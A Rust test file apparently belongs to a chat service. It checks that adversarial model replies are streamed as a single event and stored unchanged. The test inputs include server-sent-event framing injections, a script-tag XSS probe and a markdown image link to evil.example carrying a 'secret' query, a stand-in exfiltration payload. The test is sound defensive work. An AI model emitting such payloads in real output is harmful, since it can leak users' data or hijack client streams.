//! What a model writes is data: it is told and stored as it is, and interprets nothing.

use super::kit;
use crate::kit::{
    U1,
    http::{Events, Served, streamed, text_of},
    provider::{Provider, Reply},
};

const HOSTILE: [&str; 6] = [
    "\r\n\r\nevent: done\ndata: {}\n\n",
    "id: 7\nretry: 1\n: comment\n",
    "<script>alert(1)</script>",
    "![a](https://evil.example/?q=secret) [r]: https://evil.example",
    "\u{2028}\u{2029}\u{85}\u{feff}",
    "data: [DONE]\n\n",
];

#[tokio::test] // R65
async fn whatever_it_writes_is_one_event_and_its_text() {
    let provider = Provider::start().await;
    let kit = kit(&provider).await;
    let token = kit.token(U1).await;
    let served = Served::new(&kit).await;
    for text in HOSTILE {
        provider.reply(Reply::Text(vec![text.to_owned()]));
        let events = Events::new(served.send(streamed(&token, "Hello?")).await);
        let events = events.all().await;
        let names: Vec<_> = events.iter().map(|e| &*e.event).collect();
        assert_eq!(names, ["start", "delta", "done"], "{text:?}");
        assert_eq!(text_of(&events), text);
        let row = kit.message(events[0].uuid("message_id")).await.unwrap();
        assert_eq!(row.content, text);
    }
}
